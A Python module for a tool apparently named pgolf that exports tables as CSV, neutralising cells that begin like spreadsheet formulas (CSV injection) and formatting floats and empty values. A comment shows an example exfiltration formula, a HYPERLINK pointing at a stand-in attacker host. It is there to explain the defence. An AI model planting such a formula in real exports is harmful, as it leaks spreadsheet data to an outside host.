"""Tables as CSV that a spreadsheet opens without running anything (the web app's downloads, `pgolf check --all
--csv`): a cell that starts like a formula gets a
leading ' (OWASP's rule for CSV injection), floats keep 8 decimals, None is an empty cell."""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

# a spreadsheet runs a cell that starts with one of these as a formula (=HYPERLINK("http://evil.example/?"&A1))
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:.8f}"
    text = str(value)
    return "'" + text if isinstance(value, str) and text.startswith(FORMULA_STARTS) else text


def csv_table(columns: Sequence[str], rows: Iterable[dict]) -> str:
    """A header of `columns`, then each row's values under them."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([csv_cell(row[column]) for column in columns])
    return out.getvalue()
